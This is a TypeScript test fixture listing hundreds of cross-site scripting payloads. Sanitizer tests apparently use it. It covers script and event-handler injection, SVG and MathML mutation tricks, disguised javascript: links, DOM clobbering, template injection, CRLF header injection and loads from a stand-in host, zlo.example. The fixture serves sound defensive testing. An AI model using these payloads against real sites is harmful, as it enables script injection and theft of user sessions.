/**
 * What strangers put into content to make a page run something: each calls `ran()` where it succeeds, or asks
 * zlo.example. Written for these tests after the techniques that the public collections teach (OWASP's evasion
 * sheet, html5sec, the tests of DOMPurify and sanitize-html).
 */

/** Markup, one a line. */
const markup = String.raw`
<script>ran()</script>
<SCRIPT SRC=//zlo.example/x.js></SCRIPT>
<script src="data:text/javascript,ran()"></script>
<script/x>ran()</script
<script>ran()//<b>
<scr<script>ipt>ran()</scr</script>ipt>
<script xmlns="http://www.w3.org/2000/svg">ran()</script>
<script type="importmap">{"imports":{"react":"https://zlo.example/x.js"}}</script>
<script type="speculationrules">{"prefetch":[{"urls":["https://zlo.example/"]}]}</script>
</script><script>ran()</script>
</style><script>ran()</script>
</noscript><script>ran()</script>
--><script>ran()</script>
"><script>ran()</script>
'><img src=x onerror=ran()>
" onmouseover=ran() autofocus onfocus=ran() x="
<img src=x onerror=ran()>
<img src=x onerror="ran()"
<img/src=x/onerror=ran()>
<IMG """><SCRIPT>ran()</SCRIPT>">
<img src=x:x onerror=&#114;&#97;&#110;&#40;&#41;>
<img src=x onerror="&#0000114&#0000097&#0000110&#0000040&#0000041">
<img src=1 onload=ran() onerror=ran() onloadstart=ran()>
<img src="scenes/kos.svg" onload="ran()">
<img src="javascript:ran()">
<img dynsrc="javascript:ran()" lowsrc="javascript:ran()">
<img srcset="https://zlo.example/x.png 1x" src="http://zlo.example/x.png">
<img src="//zlo.example/x.png"><img src="\\zlo.example\x.png"><img src="/\zlo.example/x.png">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'/>">
<img src="https://zlo.example/x.png" attributionsrc="https://zlo.example/y" ping="https://zlo.example/z">
<img usemap="#m" src="scenes/kos.svg"><map name="m"><area href="javascript:ran()" shape="default"></map>
<image src=x onerror=ran()>
<picture><source srcset="https://zlo.example/x.png"><img src=x onerror=ran()></picture>
<svg onload=ran()>
<svg><script>ran()</script></svg>
<svg><script xlink:href="data:,ran()"/></svg>
<svg><script>&#114;an()</script>
<svg><a href="javascript:ran()"><text y="20">klik</text></a></svg>
<svg><a xlink:href="javascript:ran()"><circle r="400"/></a></svg>
<svg><a><animate attributeName="href" values="javascript:ran()"/><text y="20">klik</text></a></svg>
<svg><a><set attributeName="href" to="javascript:ran()"/><rect width="99" height="99"/></a></svg>
<svg><animate onbegin=ran() attributeName=x dur=1s>
<svg><animateMotion onend=ran() dur=1ms><set onbegin=ran() attributeName=x>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PnJhbigpPC9zY3JpcHQ+PC9zdmc+#x"/></svg>
<svg><use href="https://zlo.example/x.svg#a"/><image href="https://zlo.example/x.png"/><feImage href="https://zlo.example/y.png"/></svg>
<svg><style>@import 'https://zlo.example/x.css';*{background:url(https://zlo.example/y.png)}</style></svg>
<svg><style><img src=x onerror=ran()></style></svg>
<svg><style>&lt;img src=x onerror=ran()&gt;</style></svg>
<svg><title><img src=x onerror=ran()></title></svg>
<svg><desc><img src=x onerror=ran()></desc><metadata><img src=x onerror=ran()></metadata></svg>
<svg><foreignObject><img src=x onerror=ran()><iframe srcdoc="<script>parent.ran()</script>"></iframe></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=ran()>">
<svg><p><style><g title="</style><img src onerror=ran()>">
<svg><![CDATA[><img src=x onerror=ran()>]]></svg>
<svg><![CDATA[</svg><img src=x onerror=ran()>]]>
<svg><text>&lt;img src=x onerror=ran()&gt;</text></svg>
<svg><noscript><style></noscript><img src=x onerror=ran()></style></noscript></svg>
<svg><desc><table><svg><style><a title="</style><img src onerror=ran()>"></a></style></svg></table></desc></svg>
<svg></br><style><b title="</style><img src=x onerror=ran()>">
<svg><discard onbegin=ran()><handler type="text/javascript">ran()</handler></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">
<math><mtext><table><mglyph><style><math><img src onerror=ran()></style></mglyph></table></mtext></math>
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=ran()>"></style></h1>
<math><annotation-xml encoding="text/html"><img src=x onerror=ran()></annotation-xml></math>
<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=ran()>"></style></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><script>ran()</script></annotation-xml></math>
<math href="javascript:ran()">klik</math><math><mi xlink:href="javascript:ran()">klik</mi></math>
<math><maction actiontype="statusline#https://zlo.example" xlink:href="javascript:ran()">klik</maction></math>
<math></p><style><!--</style><img src/onerror=ran()>--></style></math>
<math><mi><style><!--</style><img src=x onerror=ran()>-->
<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=ran() src>">
<form><div></form><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=ran() src>">
<table><caption><svg><title><table><caption></caption></table><style><a title="</style><img src onerror=ran()>"></style></title></svg></caption></table>
<table><td><math><mtext></td><td><mglyph><style><!--</style><img src onerror=ran()>--></style>
<select><svg><style><a title="</select><img src onerror=ran()>"></style></svg></select>
<select><iframe src=javascript:ran()></select>
<option><style></option></select><img src=x onerror=ran()></style></option>
<noscript><p title="</noscript><img src=x onerror=ran()>">
<noscript><noscript><img src=x onerror=ran()></noscript></noscript>
<noembed><a title="</noembed><img src=x onerror=ran()>"></noembed>
<noframes><a title="</noframes><img src=x onerror=ran()>"></noframes>
<xmp><p title="</xmp><img src=x onerror=ran()>"></xmp>
<iframe><p title="</iframe><img src=x onerror=ran()>"></iframe>
<textarea><p title="</textarea><img src=x onerror=ran()>"></textarea>
<title><p title="</title><img src=x onerror=ran()>"></title>
<style><p title="</style><img src=x onerror=ran()>"></style>
<template><p title="</template><img src=x onerror=ran()>"></template>
<plaintext><img src=x onerror=ran()></plaintext>
<listing>&lt;img onerror=ran() src=x&gt;</listing>
<template><img src=x onerror=ran()></template>
<div><template shadowrootmode="open"><img src=x onerror=ran()><style>:host{position:fixed}</style></template></div>
<div><template shadowroot="open"><slot></slot><script>ran()</script></template></div>
<iframe srcdoc="<script>parent.ran()</script>"></iframe>
<iframe src="javascript:parent.ran()"></iframe>
<iframe src="data:text/html,<script>parent.ran()</script>"></iframe>
<iframe src="https://zlo.example/"></iframe><frame src="https://zlo.example/">
<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>
<iframe src="https://www.youtube-nocookie.com.zlo.example/embed/dQw4w9WgXcQ"></iframe>
<iframe src="https://www.youtube-nocookie.com@zlo.example/embed/dQw4w9WgXcQ"></iframe>
<iframe src="https://zlo.example/?https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>
<iframe src="//www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>
<iframe src="https://www.youtube-nocookie.com/embed/../../redirect?q=https://zlo.example"></iframe>
<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" onload="ran()" srcdoc="<script>parent.ran()</script>" name="ran"></iframe>
<fencedframe src="https://zlo.example/"></fencedframe><portal src="https://zlo.example/"></portal>
<object data="data:text/html,<script>parent.ran()</script>"></object>
<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value=javascript:ran()></object>
<embed src="javascript:ran()"><embed code="https://zlo.example/x.swf" allowscriptaccess=always>
<applet code="javascript:ran()"></applet>
<a href="javascript:ran()">klik</a>
<a href="javascript&colon;ran()">klik</a><a href="java&NewLine;script&colon;ran&lpar;&rpar;">klik</a>
<a href="data:text/html,<script>ran()</script>">klik</a><a href="data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg">klik</a>
<a href=javascript:ran() target=_self><b>klik</b></a><a href="javascript://%0aran()">klik</a><a href="javascript:/*%0a*/ran()">klik</a>
<a href="https://zlo.example/" target="_top" rel="opener" ping="https://zlo.example/ping" download>klik</a>
<a href="https://zlo.example/" target="ran" onclick="ran()">klik</a>
<a href="//zlo.example" attributionsrc referrerpolicy="unsafe-url">klik</a>
<a xlink:href="javascript:ran()">klik</a><a xml:base="javascript:ran()//" href="#">klik</a>
<area href="javascript:ran()"><link href="javascript:ran()" rel="import">
<form action="javascript:ran()"><button>Pošlji</button><input type=submit></form>
<form action="https://zlo.example/"><input name="geslo" autofocus onfocus=ran()><button formaction="javascript:ran()">Pošlji</button></form>
<form id=f></form><button form=f formaction=javascript:ran()>klik</button>
<isindex action=javascript:ran() type=image><input type=image src=https://zlo.example/x.png onerror=ran()>
<button popovertarget=p>klik</button><div popover id=p onbeforetoggle=ran() ontoggle=ran()>x</div>
<button commandfor=d command=show-modal>klik</button><dialog id=d open onclose=ran()>x</dialog>
<details open name=a ontoggle=ran()><details open name=a ontoggle=ran()>
<video autoplay src="https://zlo.example/x.mp4" poster="https://zlo.example/x.png" oncanplay=ran()></video>
<video><source src="javascript:ran()"><track src="https://zlo.example/x.vtt" default oncuechange=ran()></video>
<bgsound src="javascript:ran()"><layer src="https://zlo.example/x.js"></layer><xss onclick=ran() id=x tabindex=1>
<body onload="ran()" onpageshow=ran() onhashchange=ran() background="javascript:ran()">
<html onclick=ran() manifest="https://zlo.example/x"><head profile="https://zlo.example/"></head>
<frameset onload="ran()"><frame src="javascript:ran()"></frameset>
<meta http-equiv="refresh" content="0;url=https://zlo.example/">
<meta http-equiv="refresh" content="0;javascript:ran()"><meta name="referrer" content="unsafe-url">
<meta http-equiv="Content-Security-Policy" content="default-src 'none'"><meta charset="utf-7">+ADw-script+AD4-ran()+ADw-/script+AD4-
<base href="https://zlo.example/"><base target="_top"><a href="klubi">klik</a>
<link rel="stylesheet" href="https://zlo.example/x.css"><link rel=preload as=script href="https://zlo.example/x.js">
<link rel="prefetch" href="https://zlo.example/"><link rel=dns-prefetch href="//zlo.example"><link rel=modulepreload href="https://zlo.example/x.js">
<style>*{display:none!important}@import url(https://zlo.example/x.css);</style>
<style>:host{position:fixed;inset:0}::part(tab){background:url(https://zlo.example/x)}</style>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=ran() onanimationend="ran()">x</p>
<p style="position:fixed;inset:0;background:red">prek vsega</p>
<p style="background:url(https://zlo.example/x.png);-moz-binding:url(https://zlo.example/x.xml#a);width:expression(ran())">x</p>
<p style="x:\65xpression(ran());behavior:url(https://zlo.example/x.htc)">x</p>
<table background="https://zlo.example/x.png"><tr><td background="https://zlo.example/y.png">x</td></tr></table>
<p class="gallery" id="a" name="b" slot="c" part="tile" data-video="x" draggable=true ondragstart=ran() accesskey=x tabindex="1">x</p>
<p data-video="javascript:ran()"><button data-video="../../zlo">klik</button></p>
<p is="x-y" exportparts="tab" inert hidden popover nonce=x itemid=x itemref=y>x</p>
<custom-element onclick=ran()>x</custom-element><parket-page url="domov"></parket-page><parket-ad-banner api="https://zlo.example"></parket-ad-banner>
<slot name="x"></slot><div slot="x">y</div>
<form name="body"><input name="attributes"><input name="childNodes"><input name="parentNode"></form>
<form><input name="namespaceURI"><input name="querySelectorAll"><input name="replaceWith"></form>
<form><input name="nodeType"><input name="nodeName"><input name="ownerDocument"><input name="textContent"></form>
<form><input name="getRootNode"><input name="removeChild"><input name="removeAttribute"><img src=x onerror=ran()></form>
<form id="getRootNode"><input id="attributes" name="parentNode"><input form="getRootNode" name="firstChild"></form>
<form onsubmit=ran()><input name=submit><input name=insertBefore><input name=hasChildNodes><img src=x onerror=ran()></form>
<img name="getElementById"><img id="createElement" name="querySelector"><a id="currentScript" name="currentScript" href="https://zlo.example/"></a>
<a id="defaultView"></a><a id="trustedTypes"></a><a id="parket"></a><a id="parket" name="configuration" href="https://zlo.example/"></a>
<iframe name="alert"></iframe><embed name="documentElement"><object id="body"></object><form name="cookie"></form>
<a id="__proto__" name="constructor"></a><p id="toString">x</p><input name="hasOwnProperty">
<img id="ran"><a id=x><a id=x name=y href="https://zlo.example">
<p>&lt;script&gt;ran()&lt;/script&gt; &lt;img src=x onerror=ran()&gt;</p>
<p title="&quot;&gt;&lt;img src=x onerror=ran()&gt;">x</p><p title='"><script>ran()</script>'>x</p>
<img src="scenes/kos.svg" alt="&quot; onerror=&quot;ran()" title="--><img src=x onerror=ran()>">
<p title="</p><script>ran()</script>" lang="'><script>ran()</script>">x</p>
<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="<img src=x onerror=ran()>"></iframe>
<table><caption><img src=x onerror=ran()>&lt;img src=x onerror=ran()&gt;</caption><tr><td>x</table>
<a href="mailto:a@b.si?body=%3Cscript%3Eran()%3C/script%3E">klik</a><a href="tel:javascript:ran()">klik</a>
<p>\u003cscript\u003eran()\u003c/script\u003e \x3cscript\x3eran()\x3c/script\x3e %3Cscript%3Eran()%3C/script%3E</p>
<p>{{constructor.constructor('ran()')()}} [[ran()]] ${'$'}{ran()} <%= ran() %> {% ran() %} #{ran()}</p>
<div v-html="'<img src=x onerror=ran()>'" ng-app x-data="ran()" hx-on:click="ran()" data-bind="html:ran()" @click="ran()" :x="ran()" [onclick]="ran()" *ngIf="ran()">x</div>
<!--><img src=x onerror=ran()>-->
<!-- --!><img src=x onerror=ran()>-->
<!--<img src="--><img src=x onerror=ran()//">
<!--[if gte IE 4]><script>ran()</script><![endif]-->
<![CDATA[<img src=x onerror=ran()>]]>
<![><img src=x onerror=ran()>
<?xml version="1.0"?><?xml-stylesheet href="javascript:ran()"?><script>ran()</script>
<!DOCTYPE html SYSTEM "https://zlo.example/x.dtd" [<!ENTITY x "<img src=x onerror=ran()>">]>&x;
<! foo="><script>ran()</script>">
</ foo="><script>ran()</script>">
<? foo="><script>ran()</script>">
<% foo><x foo="%><script>ran()</script>">
<p/title=/onclick=ran()>x<p title=x"onclick=ran()>y<p onclick
=ran()>z
<a<b onclick=ran()>x<//b><p<img src=x onerror=ran()>
<x onclick=ran() onfocus=ran() tabindex=0 autofocus style=display:block>x</x><x:y:z onclick=ran()>x</x:y:z>
<html:script xmlns:html="http://www.w3.org/1999/xhtml">ran()</html:script><xml><script>ran()</script></xml>
<o:p onclick=ran()><v:vmlframe src="https://zlo.example/x"/></o:p><t:set attributename=innerHTML to="<img src=x onerror=ran()>">
<a href="https://kzs.example"><svg><a href="javascript:ran()">klik</a></svg></a>
<b><p><a href=x><table><a href="javascript:ran()">klik</table></b><i><img src=x onerror=ran()>
<p><p><table><tr><p><img src=x onerror=ran()></table><div></p></span></b></i>
<ul><li><ol><table><td><ul><li onclick=ran()><dl><dt><dd><img src=x onerror=ran()>
`
  .trim()
  .split(/\n(?=[^=])/)

/** Characters that a line above can't hold. */
const odd = [
  '\u0000<scr\u0000ipt>ran()</scr\u0000ipt>',
  '<img\u0000 src=x onerror\u0000=ran()>',
  '<img\fsrc=x\fonerror=ran()><img\u000bsrc=x onerror=ran()><img\u2028src=x onerror=ran()>',
  '<img src=`x`onerror=ran()><img src="x` `<script>ran()</script>"` `>',
  '<a href="jav\tascr\nipt\r:ran()">klik</a><a href="\u0001\u001f javascript:ran()">klik</a>',
  '<a href="\u00a0javascript:ran()">klik</a><a href="\u2028javascript:ran()">klik</a><a href="\ufeffjavascript:ran()">klik</a>',
  '<a href="java\u0000script:ran()">klik</a><a href="java\u200bscript:ran()">klik</a><a href="ｊavascript:ran()">klik</a>',
  '\ufeff<script>ran()</script>\u2028<!--\u2029--><img src=x onerror=ran()>',
  '＜script＞ran()＜/script＞ ¼script¾ran()¼/script¾ %uff1cscript%uff1eran()',
  '\ud800<img src=x onerror=ran()>\udfff',
  '<ſcript>ran()</ſcript><ſvg onload=ran()><iMG src=x onerror=ran()><ıframe src=javascript:ran()>',
  `${'<div>'.repeat(200)}<img src=x onerror=ran()>${'</div>'.repeat(200)}`,
  `${'<div>'.repeat(10_000)}<img src=x onerror=ran()>`,
  `${'<form>'.repeat(300)}${'<svg>'.repeat(300)}<img src=x onerror=ran()>`,
  `${'<b><i>'.repeat(520)}<p><style><!--</style><img src=x onerror=ran()>-->`,
  `${'<math><mtext>'.repeat(100)}<mglyph><style><!--</style><img src=x onerror=ran()>`,
  `${'<table><td>'.repeat(150)}<img src=x onerror=ran()>`,
  `<p${' a=1'.repeat(5000)} onclick=ran()>x</p>`,
  '<'.repeat(5000),
  '<a href="'.repeat(300),
  '<!--'.repeat(2000),
]

const tags =
  'a abbr address article audio b blockquote br button caption code col dd details div dl em figure form h1 h3 hr iframe img input kbd label li marquee math ol p pre q section select source span strong style sub svg table td textarea tr ul video x-y'.split(
    ' ',
  )

const events =
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough change click close command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange emptied end ended error finish focus focusin focusout formdata fullscreenchange gesturestart gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadend loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange repeat reset resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload visibilitychange volumechange waiting webkitanimationend webkitfullscreenchange webkittransitionend wheel'.split(
    ' ',
  )

/** Every event on some tag, each time spelled another way. */
const handlers = events.map((event, index) => {
  const tag = tags[index % tags.length]
  const name = index % 2 ? `on${event}` : `ON${event.toUpperCase()}`
  const value = ['="ran()"', "='ran()'", '=ran()', '\n=\t"ran()"', '="&#114;an()"'][index % 5]
  return `<${tag}${index % 3 ? ' ' : '/'}src="x" tabindex="0" ${name}${value}>x</${tag}>`
})

/** Markup that calls `ran()` in one way or another; where nothing runs, it is never called. */
export const hostileHtml: readonly string[] = [...markup, ...odd, ...handlers]

const schemes = [
  ...'javascript:ran() JaVaScRiPt:ran() javascript://%0aran() javascript: javascript:%72an() vbscript:ran()'.split(
    ' ',
  ),
  ...'VBSCRIPT:ran() livescript:ran() jscript:ran() mocha:ran() x-javascript:ran() javascript+x:ran()'.split(
    ' ',
  ),
  ...'view-source:javascript:ran() feed:javascript:ran() jar:javascript:ran() about:blank about:srcdoc'.split(
    ' ',
  ),
  ...'data:text/html,<script>ran()</script> data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg=='.split(
    ' ',
  ),
  ...'DATA:text/html;charset=utf-8,<script>ran()</script> data:,x data:application/xhtml+xml,<x/>'.split(' '),
  'data:image/svg+xml,<svg onload=ran()>',
  ...'blob:https://kzs.example/1 filesystem:https://kzs.example/x file:///etc/passwd ftp://zlo.example/'.split(
    ' ',
  ),
  ...'ws://zlo.example/ chrome://settings intent://x#Intent;end ms-its:x mhtml:x res:x wyciwyg://x'.split(
    ' ',
  ),
  ...'sms:1 magnet:?x'.split(' '),
]

const entity = (letter: string, of: (code: number) => string) => of(letter.charCodeAt(0))
const everyLetter = (text: string, of: (letter: string) => string) => [...text].map(of).join('')
/** What is before the first colon, spelled so, and the rest. */
const spelled = (text: string, of: (scheme: string) => string) => {
  const colon = text.indexOf(':')
  return of(text.slice(0, colon)) + text.slice(colon)
}

/** Ways to write an address so that it doesn't look like what it is; some make it another address, none a safe one. */
export const disguises: readonly ((address: string) => string)[] = [
  (text) => text,
  (text) => ` \t\n${text}\r\n`,
  (text) => `\u0000\u0001\u001f${text}`,
  (text) => `\u00a0\ufeff\u2028${text}`,
  (text) => spelled(text, (scheme) => scheme.split('').join('\t')),
  (text) => spelled(text, (scheme) => scheme.split('').join('\n')),
  (text) => spelled(text, (scheme) => `${scheme}\r\n`),
  (text) => spelled(text, (scheme) => scheme.toUpperCase()),
  (text) => spelled(text, (scheme) => `${scheme.slice(0, 3)}\t\n\r${scheme.slice(3)}`),
  (text) => everyLetter(text, (letter) => entity(letter, (code) => `&#${code};`)),
  (text) => everyLetter(text, (letter) => entity(letter, (code) => `&#x${code.toString(16)};`)),
  (text) => text.replace(':', '&colon;'),
  (text) => text.replace(':', '&#58'),
  (text) => spelled(text, (scheme) => `${scheme.slice(0, 4)}&Tab;${scheme.slice(4)}`),
  (text) => spelled(text, (scheme) => `${scheme.slice(0, 4)}&NewLine;${scheme.slice(4)}`),
]

export const hostileLinks: readonly string[] = schemes.flatMap((scheme) => disguises.map((as) => as(scheme)))

/** One text for every place where text is written: HTML, attributes, scripts, JSON, XML, calendars, templates. */
export const hostileText =
  `"'\`><img src=x onerror=ran()></script><script>ran()</script><!--</title></textarea></style>-->]]>` +
  `\u2028\u2029\${ran()}{{ran()}}\\";ran();//\r\nX-A: b\r\n%0d%0a javascript:ran()`
